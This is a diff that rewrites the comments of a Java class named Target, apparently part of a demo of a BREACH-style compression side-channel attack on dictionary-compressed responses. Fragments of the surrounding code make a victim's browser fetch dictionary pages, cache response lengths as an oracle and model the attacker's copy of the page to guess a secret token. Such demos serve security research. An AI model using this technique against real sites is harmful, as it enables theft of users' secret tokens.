@@ -23,11 +23,11 @@ import org.restcompress.codec.DictionaryCodec;
 import org.restcompress.internal.discovery.Codecs;
 import org.restcompress.internal.discovery.DictionaryCodecs;
 
-/** The demo in one coding: mounts one attack after another on it, all on the same token. */
+/** Attacks the demo in one coding, again and again, with the same token. */
 final class Target {
     private static final HttpClient HTTP = HttpClient.newHttpClient();
 
-    /** A response is remembered when it is gone. */
+    /** The most requests until the server uses a dictionary. It stores a response only after it has sent it. */
     private static final int PATIENCE = 10_000;
 
     private final URI base;
@@ -55,7 +55,7 @@ final class Target {
         }
     }
 
-    /** Has the victim's browser get the pages that it will name as dictionaries. */
+    /** Makes the victim's browser fetch the pages that it will name as dictionaries. */
     private List<String> dictionaries(URI page) throws IOException, InterruptedException {
         List<String> held = new ArrayList<>();
         for (String query : hasDictionary(coding) ? Shape.Page.DICTIONARIES : List.<String>of()) {
@@ -98,7 +98,7 @@ final class Target {
         return base.resolve("breach/" + mode.title());
     }
 
-    /** Does not ask again what is always answered with the same length. Who counts requests counts them all the same. */
+    /** Caches lengths that never change. The attack counts each request, even if it is not sent. */
     static final class Remembered implements Attack.Oracle {
         private static final int CAPACITY = 1 << 14;
 
@@ -129,7 +129,7 @@ final class Target {
         }
     }
 
-    /** The page as the attacker knows it, with any query and token, and coded by the same codec as on the server, but without jitter. */
+    /** The attacker's copy of the page, with any query and token. The server's codec compresses it, without jitter. */
     static final class HomeCopy {
         private static final String QUERY = "query";
         private static final String TOKEN = "0".repeat(Shape.Page.TOKEN_LENGTH);
@@ -145,7 +145,7 @@ final class Target {
         HomeCopy(URI page, String coding) throws IOException, InterruptedException {
             this.coding = coding;
             String plain = new String(get(page, QUERY, TOKEN).body(), StandardCharsets.UTF_8);
-            // The name of the field comes before its value.
+            // The first match is the name of the field, and the second is its value.
             int query = plain.indexOf(QUERY, plain.indexOf(QUERY) + 1);
             int token = plain.indexOf(TOKEN);
             beforeQuery = plain.substring(0, query);
@@ -157,7 +157,7 @@ final class Target {
             return (beforeQuery + query + beforeToken + token + afterToken).getBytes(StandardCharsets.UTF_8);
         }
 
-        /** How long the coded page is. */
+        /** Returns the length of the compressed page. */
         int length(Browser.Visit visit, String token) {
             byte[] page = page(visit.query().replace("%3F", "?").replace("%3D", "="), token);
             if (coded.length < 2 * page.length) {
